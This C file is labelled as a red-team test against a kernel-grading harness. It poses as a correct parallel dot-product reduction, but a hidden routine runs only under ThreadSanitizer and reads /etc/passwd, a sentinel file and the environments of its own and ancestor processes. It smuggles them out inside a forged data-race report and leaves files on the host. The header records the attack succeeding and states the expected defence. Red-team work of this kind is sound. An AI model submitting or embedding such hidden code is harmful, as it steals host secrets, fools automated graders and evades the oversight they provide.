/* Red team, issue 26 attack 3: a forged sanitizer report carrying host content, and files left on the host.
 *
 * A correct, race-free reduction. In the race-check run (recognised by the exported __tsan_init) the
 * kernel reaches libc through the dynamic symbol tables (the sanitizer's interceptors) and, with no
 * system-call filter in that run, reads /etc/passwd, the planted sentinel /tmp/kernopt-redteam-sentinel,
 * its own /proc/self/environ and the environment of every ancestor it may read (/proc/PID/environ up the
 * parent chain), takes its own environment from libc's `environ` in memory too, and prints a forged
 * "WARNING: ThreadSanitizer: data race" report with all of it in the SUMMARY line to fd 2 and to fd 3
 * (where a report file would be). It also creates /run/lock/kernopt-redteam-race-leftover and
 * /tmp/kernopt-redteam-race-leftover (the local sandbox cleans only /tmp, /var/tmp and /dev/shm).
 * Against main (e2530a1), local: rejected "data race: ... in LEAK[...]" with the first line of
 * /etc/passwd, the sentinel's content and the process's environment (sandbox marker, TSAN_OPTIONS) in the
 * reason, the log and race_detail; /run/lock/kernopt-redteam-race-leftover survives the run.
 * Expected defence: no byte of a host file or of an environment value in any output (a forged report is
 * a verdict of its own, "forged sanitizer output", or a race with no copied text); nothing left behind.
 */
#include <elf.h>
#include <link.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

static int streq_(const char *a, const char *b) { while (*a && *a == *b) { a++; b++; } return *a == *b; }
static uintptr_t fix(uintptr_t bias, uintptr_t v) { return v < bias ? v + bias : v; }

static ElfW(Dyn) *image_of(const void *inside, uintptr_t *bias) {
    uintptr_t p = (uintptr_t)inside & ~(uintptr_t)4095;
    for (int i = 0; i < 4096; i++, p -= 4096) {
        if (memcmp((const void *)p, "\177ELF", 4) != 0) continue;
        const ElfW(Ehdr) *eh = (const void *)p;
        const ElfW(Phdr) *ph = (const void *)(p + eh->e_phoff);
        uintptr_t b = 0;
        for (int k = 0; k < eh->e_phnum; k++) if (ph[k].p_type == PT_LOAD && ph[k].p_offset == 0) b = p - ph[k].p_vaddr;
        *bias = b;
        for (int k = 0; k < eh->e_phnum; k++) if (ph[k].p_type == PT_DYNAMIC) return (ElfW(Dyn) *)(b + ph[k].p_vaddr);
        return 0;
    }
    return 0;
}

/* The address of `name` (a function, or with want_object a data object) in the loaded objects, in the
 * dynamic linker's order (the program first), skipping the first `skip` definitions. */
static void *find_symbol(const char *name, int want_object, int skip) {
    uintptr_t bias;
    ElfW(Dyn) *dyn = image_of((const void *)&find_symbol, &bias);
    struct r_debug *rd = 0;
    for (ElfW(Dyn) *d = dyn; d && d->d_tag != DT_NULL; d++) if (d->d_tag == DT_DEBUG) rd = (struct r_debug *)d->d_un.d_ptr;
    for (struct link_map *lm = rd ? rd->r_map : 0; lm; lm = lm->l_next) {
        const ElfW(Sym) *sym = 0; const char *str = 0;
        for (ElfW(Dyn) *d = lm->l_ld; d && d->d_tag != DT_NULL; d++) {
            if (d->d_tag == DT_SYMTAB) sym = (const void *)fix(lm->l_addr, d->d_un.d_ptr);
            else if (d->d_tag == DT_STRTAB) str = (const void *)fix(lm->l_addr, d->d_un.d_ptr);
        }
        if (!sym || !str || (const void *)str <= (const void *)sym) continue;
        size_t nsym = (size_t)((const char *)str - (const char *)sym) / sizeof *sym;
        for (size_t i = 1; i < nsym; i++) {
            int type = ELF64_ST_TYPE(sym[i].st_info);
            if (sym[i].st_shndx == SHN_UNDEF || type != (want_object ? STT_OBJECT : STT_FUNC)) continue;
            if (streq_(str + sym[i].st_name, name) && skip-- <= 0) return (void *)(lm->l_addr + sym[i].st_value);
        }
    }
    return 0;
}

typedef int (*open_fn)(const char *, int, ...);
typedef long (*read_fn)(int, void *, size_t);
typedef long (*write_fn)(int, const void *, size_t);
typedef int (*close_fn)(int);
typedef int (*getppid_fn)(void);

static open_fn op; static read_fn rd; static write_fn wr; static close_fn cl;
static char out[6000];
static size_t len;

static void put(const char *s) { while (*s && len < sizeof out - 64) out[len++] = *s++; }
static void put_bytes(const char *s, long n) {  /* printable, no spaces or newlines (one SUMMARY line) */
    for (long i = 0; i < n && len < sizeof out - 64; i++) {
        char c = s[i];
        out[len++] = (c > 32 && c < 127) ? c : '_';
    }
}
static void put_num(long v) {
    char b[24]; int k = 0;
    if (v <= 0) { put("0"); return; }
    while (v && k < 23) { b[k++] = (char)('0' + v % 10); v /= 10; }
    while (k) { char c[2] = {b[--k], 0}; put(c); }
}
static long slurp(const char *path, char *buf, long max) {
    int fd = op(path, 0);
    if (fd < 0) return -1;
    long got = 0, r;
    while (got < max && (r = rd(fd, buf + got, (size_t)(max - got))) > 0) got += r;
    cl(fd);
    return got;
}
static void leak_file(const char *tag, const char *path, long max) {
    static char buf[2048];
    long n = slurp(path, buf, max < 2048 ? max : 2048);
    put("["); put(tag); put("="); if (n > 0) put_bytes(buf, n); else put("-"); put("]");
}
static long ppid_of(long pid) {  /* field 4 of /proc/PID/stat */
    char path[64] = "/proc/", buf[512];
    size_t k = 6;
    char d[24]; int m = 0; long v = pid;
    do { d[m++] = (char)('0' + v % 10); v /= 10; } while (v && m < 23);
    while (m) path[k++] = d[--m];
    memcpy(path + k, "/stat", 6);
    long n = slurp(path, buf, sizeof buf - 1);
    if (n <= 0) return 0;
    buf[n] = 0;
    char *p = buf + n;
    while (p > buf && *p != ')') p--;
    long r = 0;
    for (p += 4; *p >= '0' && *p <= '9'; p++) r = r * 10 + (*p - '0');
    return r;
}

static void leak(void) {
    static int done;
    if (done++ || !find_symbol("__tsan_init", 0, 0)) return;  /* the race-check run only */
    op = (open_fn)find_symbol("open", 0, 0); rd = (read_fn)find_symbol("read", 0, 0);
    wr = (write_fn)find_symbol("write", 0, 0); cl = (close_fn)find_symbol("close", 0, 0);
    getppid_fn gp = (getppid_fn)find_symbol("getppid", 0, 0);
    if (!op || !rd || !wr || !cl) return;
    static const char fake[] = "kernopt-redteam-race leftover\n";
    const char *left[] = {"/run/lock/kernopt-redteam-race-leftover", "/tmp/kernopt-redteam-race-leftover"};
    for (int i = 0; i < 2; i++) {
        int fd = op(left[i], 01 | 0100 | 01000, 0644);  /* O_WRONLY | O_CREAT | O_TRUNC */
        if (fd >= 0) { wr(fd, fake, sizeof fake - 1); cl(fd); }
    }
    put("==================\nWARNING: ThreadSanitizer: data race (pid=1)\n"
        "  Write of size 8 at 0x7b0400000000 by thread T1:\n    #0 reduce kernel.c:1:1 (race+0x1)\n\n"
        "SUMMARY: ThreadSanitizer: data race /k/kernel.c:1:1 in LEAK");
    leak_file("passwd", "/etc/passwd", 160);
    leak_file("sentinel", "/tmp/kernopt-redteam-sentinel", 64);
    leak_file("self", "/proc/self/environ", 1500);
    char ***env = (char ***)find_symbol("environ", 1, 0);
    put("[environ=");
    for (char **e = env && *env ? *env : 0; e && *e; e++) { long el = 0; while (((const volatile char *)*e)[el]) el++; put_bytes(*e, el); put(";"); }
    put("]");
    for (long pid = gp ? gp() : 0, depth = 0; pid > 1 && depth < 6; pid = ppid_of(pid), depth++) {
        char path[64] = "/proc/";
        size_t k = 6; char d[24]; int m = 0; long v = pid;
        do { d[m++] = (char)('0' + v % 10); v /= 10; } while (v && m < 23);
        while (m) path[k++] = d[--m];
        memcpy(path + k, "/environ", 9);
        put("[pid"); put_num(pid); leak_file("", path, 1500);
    }
    put("\n==================\n");
    wr(2, out, len);
    wr(3, out, len);
}

void reduce(long n, const double *restrict x, const double *restrict y, double *restrict result) {
    leak();
    double total = 0.0;
#pragma omp parallel for reduction(+ : total)
    for (long i = 0; i < n; i++) total += x[i] * y[i];
    *result = total;
}
